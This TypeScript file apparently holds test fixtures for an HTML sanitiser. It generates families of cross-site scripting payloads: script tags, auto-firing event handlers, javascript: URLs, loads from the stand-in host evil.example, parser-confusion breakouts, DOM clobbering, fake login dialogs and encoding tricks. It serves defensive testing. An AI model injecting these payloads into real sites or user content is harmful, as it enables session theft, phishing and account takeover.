/** Families of attacks in rich text. Each calls `attack(%n)`, asks for an address of `%n`, or takes a name of the portal's. */

const SCRIPTS = [
  '<script>attack(%n)</script>',
  '<SCRIPT>attack(%n)</SCRIPT>',
  '<ScRiPt >attack(%n)</sCrIpT >',
  '<script/x>attack(%n)</script/x>',
  '<script\n>attack(%n)</script\n>',
  '<script\f>attack(%n)</script\f>',
  '<script type="module">attack(%n)</script>',
  '<script nomodule>attack(%n)</script>',
  '<script type="text/plain">x</script><script>attack(%n)</script>',
  '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["/attack/%n"]}]}</script>',
  '<script type="speculationrules">{"prerender":[{"source":"list","urls":["/attack/%n"]}]}</script>',
  '<script type="importmap">{"imports":{"x":"//evil.example/%n"}}</script>',
  '<script src="https://evil.example/%n"></script>',
  '<script src=//evil.example/%n></script>',
  '<script src="data:text/javascript,attack(%n)"></script>',
  '<script async defer src=/attack/%n></script>',
  '<script>attack(%n)',
  '<script>attack(%n)<!-- ',
  '<script><!--\nattack(%n)\n//--></script>',
  '<svg><script>attack(%n)</script></svg>',
  '<svg><script href="data:text/javascript,attack(%n)"/></svg>',
  '<svg><script xlink:href="data:text/javascript,attack(%n)"/></svg>',
  '<svg><script>&#97;ttack(%n)</script></svg>',
  '<svg><script><![CDATA[attack(%n)]]></script></svg>',
  '<math><script>attack(%n)</script></math>',
  '<math><mtext><script>attack(%n)</script></mtext></math>',
  '<!--><script>attack(%n)</script>-->',
  '<!---><script>attack(%n)</script>-->',
  '<!-- --!><script>attack(%n)</script>',
  '<![CDATA[><script>attack(%n)</script>]]>',
  '<?x ><script>attack(%n)</script>?>',
  '</ x><script>attack(%n)</script>',
  '<!doctype html><html><head><script>attack(%n)</script></head></html>',
  '<noscript></noscript><script>attack(%n)</script>',
  '<table><script>attack(%n)</script></table>',
  '<select><script>attack(%n)</script></select>',
  '<p title="</p><script>attack(%n)</script>">x',
  "<p title='</p><script>attack(%n)</script>'>x",
  '<p title=`</p><script>attack(%n)</script>`>x',
];

/** Elements that run something by themselves, where `¤` is their handler. */
const FIRING = {
  'img error': '<img src="/attack/%n" onerror¤>',
  'img load': '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" onload¤>',
  'image alias': '<image src="/attack/%n" onerror¤>',
  'input image': '<input type="image" src="/attack/%n" onerror¤>',
  'video error': '<video src="/attack/%n" onerror¤></video>',
  'video source': '<video><source src="/attack/%n" onerror¤></video>',
  'video start': '<video src="/attack/%n" onloadstart¤></video>',
  'audio error': '<audio src="/attack/%n" onerror¤></audio>',
  'object error': '<object data="/attack/%n" onerror¤></object>',
  'embed load': '<embed src="data:text/html,x" onload¤>',
  'iframe load': '<iframe onload¤></iframe>',
  'link error': '<link rel="stylesheet" href="/attack/%n" onerror¤>',
  'style load': '<style onload¤>b{}</style>',
  'body load': '<body onload¤>',
  'body show': '<body onpageshow¤>',
  frameset: '<frameset onload¤><frame></frameset>',
  'svg load': '<svg onload¤></svg>',
  'svg image': '<svg><image href="/attack/%n" onerror¤/></svg>',
  'svg begin': '<svg><animate onbegin¤ attributeName="x" dur="1s"/></svg>',
  'svg set': '<svg><set onbegin¤ attributeName="x" to="1"/></svg>',
  'svg transform': '<svg><animateTransform onbegin¤ attributeName="transform" dur="1s"/></svg>',
  'input focus': '<input autofocus onfocus¤>',
  'select focus': '<select autofocus onfocus¤></select>',
  'textarea focus': '<textarea autofocus onfocus¤></textarea>',
  'button focus': '<button autofocus onfocus¤>x</button>',
  'any focus': '<b tabindex="0" autofocus onfocus¤>x</b>',
  'link focus': '<a href="/x" autofocus onfocus¤>x</a>',
  'edited focus': '<p contenteditable autofocus onfocusin¤>x</p>',
  details: '<details open ontoggle¤><summary>x</summary></details>',
  marquee: '<marquee width="1" loop="1" onfinish¤ onstart¤>x</marquee>',
  animation: '<p style="animation: page-x 1s" onanimationstart¤>x</p>',
  transition: '<p style="transition: color 1s" ontransitionrun¤>x</p>',
  'own element': '<x-attack autofocus tabindex="1" onfocus¤>x</x-attack>',
  skipped: '<p style="content-visibility: auto" oncontentvisibilityautostatechange¤>x</p>',
};

const HANDLER_SPELLINGS = [
  '="attack(%n)"',
  "='attack(%n)'",
  '=attack(%n)',
  '\t=\n"attack(%n)"',
  '="&#97;&#x74;tack(%n)"',
  "=\"top['att'+'ack'](%n)\"",
];

/** Where an address stands, at `¤`, that is opened, loaded or shown in a frame. */
const ADDRESS_PLACES = [
  "<A HREF='¤'>x</A>",
  '<a href="¤" target="_blank" ping="/attack/%n">x</a>',
  '<map><area shape="default" href="¤"></map>',
  '<form action="¤"><input type="submit"></form>',
  '<button form="x" formaction="¤">x</button>',
  '<form><input type="submit" formaction="¤"></form>',
  '<iframe src="¤"></iframe>',
  '<frameset><frame src="¤"></frameset>',
  '<embed src="¤">',
  '<object data="¤"></object>',
  '<object><param name="movie" value="¤"></object>',
  '<applet code="¤" archive="¤"></applet>',
  '<base href="¤">',
  '<link rel="import" href="¤">',
  '<meta http-equiv="refresh" content="0;url=¤">',
  '<body background="¤">',
  '<table background="¤"><tr><td background="¤">x</td></tr></table>',
  '<img dynsrc="¤" lowsrc="¤">',
  '<svg><a xlink:href="¤"><text y="9">x</text></a></svg>',
  '<svg><a><animate attributeName="href" values="¤"/><text y="9">x</text></a></svg>',
  '<svg><a><set attributeName="xlink:href" to="¤"/><text y="9">x</text></a></svg>',
  '<svg><use href="¤"/></svg>',
  '<math href="¤"><mi>x</mi></math>',
  '<math><maction actiontype="statusline" xlink:href="¤"><mi>x</mi></maction></math>',
  '<blockquote cite="¤">x</blockquote>',
  '<q cite="¤">x</q>',
  '<ins cite="¤">x</ins>',
];

const RUNNING_ADDRESSES = [
  'javascript:attack(%n)',
  'JAVA&#x09;SCRIPT:attack(%n)',
  '&#1;javascript:attack(%n)',
  'data:text/html,&lt;script&gt;parent.attack(%n)&lt;/script&gt;',
  'javascript://x/%0aattack(%n)',
];

/** What asks for an address, at `¤`, as soon as it is shown. */
const FETCHING_PLACES = [
  '<img src="¤">',
  '<img srcset="¤ 1x">',
  '<img src="data:," srcset="¤ 100w" sizes="1px">',
  '<picture><source srcset="¤"><img></picture>',
  '<input type="image" src="¤">',
  '<video poster="¤"></video>',
  '<video src="¤" autoplay></video>',
  '<audio src="¤" preload="auto"></audio>',
  '<video><track default kind="captions" src="¤"></video>',
  '<link rel="stylesheet" href="¤">',
  '<link rel="preload" as="image" href="¤">',
  '<link rel="modulepreload" href="¤">',
  '<link rel="prefetch" href="¤">',
  '<link rel="prerender" href="¤">',
  '<link rel="preconnect" href="¤">',
  '<link rel="dns-prefetch" href="¤">',
  '<link rel="icon" href="¤">',
  '<link rel="manifest" href="¤">',
  '<link rel="preload" as="image" imagesrcset="¤ 1x">',
  '<style>@import "¤";</style>',
  '<style>.block { background: url(¤) }</style>',
  '<p style="background: url(¤)">x</p>',
  '<p style="background: image-set(\'¤\' 1x)">x</p>',
  '<p style="list-style: url(¤); display: list-item">x</p>',
  '<p style="content: url(¤)">x</p>',
  '<p style="cursor: url(¤), auto">x</p>',
  '<p style="--x: url(¤); background: var(--x)">x</p>',
  '<body background="¤">',
  '<table background="¤"><tr><td>x</td></tr></table>',
  '<iframe src="¤"></iframe>',
  '<iframe srcdoc="&lt;img src=¤&gt;"></iframe>',
  '<object data="¤"></object>',
  '<embed src="¤">',
  '<svg><image href="¤"/></svg>',
  '<svg><filter id="x"><feImage href="¤"/></filter><rect filter="url(#x)"/></svg>',
  '<svg><use href="¤#x"/></svg>',
  '<svg><style>@import "¤";</style></svg>',
  '<meta http-equiv="refresh" content="0; url=¤">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ¤">',
  '<base href="¤"><img src="x">',
  '<html manifest="¤">',
  '<bgsound src="¤">',
  '<portal src="¤"></portal>',
  '<fencedframe src="¤"></fencedframe>',
  '<template shadowrootmode="open"><img src="¤"></template>',
];

const FETCHED = ['https://evil.example/%n', '//evil.example/%n', '/attack/%n'];

/** Elements around, whose namespace or mode of insertion changes how what is inside is read. */
const NAMESPACES = [
  '<svg>',
  '<math>',
  '<svg><foreignObject>',
  '<svg><desc>',
  '<math><mtext>',
  '<math><annotation-xml encoding="text/html">',
  '<math><mtext><table><mglyph>',
  '<form><math><mtext></form><form><mglyph>',
  '<table><tr><td>',
  '<select><option>',
  '<template>',
  '<a href="/x"><table><a>',
];

/** Elements whose content is text to one parser and markup to another. */
const RAW_ELEMENTS = ['style', 'title', 'textarea', 'noscript', 'xmp', 'iframe', 'noembed', 'noframes', 'script'];

/** Two ways out of them: by an attribute that holds their end, and by a comment that one parser does not see. */
const BREAKOUTS = [
  (name: string) => `<${name}><a id="</${name}><img src=/attack/%n onerror=attack(%n)>">`,
  (name: string) => `<${name}><!--</${name}><img src=/attack/%n onerror=attack(%n)>-->`,
];

/** Names that the portal or the browser looks up on its document, and elements that answer to them. */
const CLOBBERED =
  'page-content page-style content page __NEXT_DATA__ __next attributes body location cookie currentScript portico'.split(
    ' ',
  );
const CLOBBERING = [
  '<a id="¤" name="¤" href="/attack/%n">x</a>',
  '<form id="¤"><input name="¤"><input name="attributes"></form>',
  '<img name="¤">',
  '<p id="¤">x</p>',
  '<iframe name="¤" srcdoc="x"></iframe>',
];

/** What would look or act like the portal's own controls. */
const IMPOSTORS = [
  '<div style="position: fixed; inset: 0; z-index: 2147483647; background: red">%n</div>',
  '<div style="position:fi\\78 ed;inset:0;z-index:99">%n</div>',
  '<div class="fixed inset-0 z-60 bg-raised">%n</div>',
  '<p class="sr-only focus:not-sr-only">%n</p>',
  '<ul class="menu"><li class="menu-row">%n</li></ul>',
  '<dialog open>%n<form method="dialog"><input name="password"></form></dialog>',
  '<p popover="manual" id="p%n">x</p><button popovertarget="p%n">x</button>',
  '<button command="show-modal" commandfor="d%n">x</button><dialog id="d%n">x</dialog>',
  '<form action="/login" method="post"><input type="password" name="password"></form>%n',
  '<label for="email">%n</label>',
  '<p role="alert" aria-live="assertive">%n</p>',
  '<p role="dialog" aria-modal="true">%n</p>',
  '<p aria-hidden="true" inert hidden>%n</p>',
  '<p accesskey="s" tabindex="1" autofocus>%n</p>',
  '<p contenteditable="true" draggable="true" spellcheck="true">%n</p>',
  '<p is="x-attack" slot="x" part="x" exportparts="x">%n</p>',
  '<div data-report-id="00000000-0000-4000-8000-000000000000">%n</div>',
  '<div data-report-id="x" data-report-filters="[{&quot;x&quot;:%n}]">x</div>',
  '<a href="/attack/%n" download="x" downloadurl="/attack/%n" fileid="x" thumbnailurl="/attack/%n">x</a>',
  '<div class="block block-report" data-aspect="1:1">%n</div>',
  '<!--later:0-->%n',
  '<!--later:1--><!--later:-1-->%n',
  '<p itemscope itemtype="//evil.example/%n">x</p>',
  '<p nonce="x" integrity="x" crossorigin="x">%n</p>',
  '<p translate="no" elementtiming="x" virtualkeyboardpolicy="x">%n</p>',
  '<a href="/x" attributionsrc="https://evil.example/%n">x</a>',
  '<a href="/x" target="portico%n" rel="opener">x</a>',
  '<h2 id="content" title="x" onclick="attack(%n)">x</h2>',
];

/** The same tag in characters that some reader once took for others, or did not see. */
const SPELLINGS = [
  '<\u0131mg src=/attack/%n onerror=attack(%n)>',
  '<\u017fcript>attack(%n)</\u017fcript>',
  '<sc\u0000ript>attack(%n)</script>',
  '<img\u0000 src=/attack/%n onerror=attack(%n)>',
  '<img src=/attack/%n on\u0000error=attack(%n)>',
  '<img\u000bsrc=/attack/%n\u000bonerror=attack(%n)>',
  '<img\u00a0src=/attack/%n onerror=attack(%n)>',
  '<img\u2028src=/attack/%n\u2029onerror=attack(%n)>',
  '<img/src=/attack/%n/onerror=attack(%n)>',
  '<img """><script>attack(%n)</script>">',
  '<img src=`/attack/%n`onerror=attack(%n)>',
  '<img src="/attack/%n"onerror="attack(%n)">',
  "<img src='/attack/%n\"' onerror=attack(%n)>",
  '<img src=/attack/%n onerror=\ufeffattack(%n)>',
  '<img src=/attack/%n onerror=attack&lpar;%n&rpar;>',
  '<img src=/attack/%n onerror=attack&#40%n&#41>',
  '<img src=/attack/%n onerror=\\u0061ttack(%n)>',
  '\uff1cscript\uff1eattack(%n)\uff1c/script\uff1e<script>attack(%n)</script>',
  '&lt;script&gt;attack(%n)&lt;/script&gt;<b onclick=attack(%n)>x</b>',
  '&amp;lt;img src=/attack/%n onerror=attack(%n)&amp;gt;<img src=/attack/%n>',
  '+ADw-script+AD4-attack(%n)+ADw-/script+AD4-<meta charset=utf-7>',
  '\u202e<img src=/attack/%n onerror=attack(%n)>\u202c',
  '\ud83d<img src=/attack/%n onerror=attack(%n)>',
  '\u001b$B<img src=/attack/%n onerror=attack(%n)>\u001b(B',
  '<IMG SRC=/attack/%n ONERROR=attack(%n)><IMG SRC=/attack/%n ONERROR=attack(%n)',
  '<img src=/attack/%n onerror=attack(%n)//',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">attack(%n)</x:script>',
  '<svg:svg onload=attack(%n)></svg:svg><html:img src=/attack/%n>',
  '<a href=" &#14;  javascript:attack(%n)">x</a>',
  '<a href="jav&NewLine;ascript&colon;attack(%n)">x</a>',
  '<a href="\u00a0javascript:attack(%n)">x</a>',
  '<a href="javascript\u00ad:attack(%n)">x</a>',
  '<a href="\u2003javascript:attack(%n)" x>x</a>',
  '<a href="%6Aavascript:attack(%n)">x</a>',
  '<a href="https:javascript:attack(%n)">x</a>',
  '<a href="/\t/evil.example/%n">x</a>',
  '<a href="/\n\\evil.example/%n">x</a>',
  '<a href="page:javascript:attack(%n)">x</a>',
];

/** Markup that stands so deep that a parser closes, moves or flattens some of it. */
const atDepths = (depths: readonly number[]) =>
  depths.flatMap((depth) => [
    `${'<b>'.repeat(depth)}<svg><style><a title="</style><img src=/attack/%n onerror=attack(%n)>">`,
    `${'<table><td>'.repeat(depth / 5)}<svg><title><style><img src=/attack/%n onerror=attack(%n)></style>`,
    `${'<div><table>'.repeat(depth / 5)}<math><mi><style><!--</style><img src=/attack/%n onerror=attack(%n)>`,
  ]);

const DEPTHS = atDepths([30, 50, 70, 90]);
/** So deep that none of them is stored. */
export const DEEP_HTML_ATTACKS = atDepths([255, 510, 515, 600]).map((each) => each.replaceAll('%n', '1'));

const inEach = (places: readonly string[], values: readonly string[]) =>
  places.flatMap((place) => values.map((value) => place.replaceAll('¤', () => value)));

export const HTML_FAMILIES: Record<string, readonly string[]> = {
  scripts: SCRIPTS,
  'handlers that run by themselves': inEach(Object.values(FIRING), HANDLER_SPELLINGS),
  'addresses that run': inEach(ADDRESS_PLACES, RUNNING_ADDRESSES),
  'addresses that are fetched': inEach(FETCHING_PLACES, FETCHED),
  'text to one parser and markup to another': NAMESPACES.flatMap((outer) =>
    RAW_ELEMENTS.flatMap((name) => BREAKOUTS.map((breakOut) => outer + breakOut(name))),
  ),
  'names of the portal and the browser': inEach(CLOBBERING, CLOBBERED),
  'controls that are not the portal’s': IMPOSTORS,
  spellings: SPELLINGS,
  depth: DEPTHS,
};
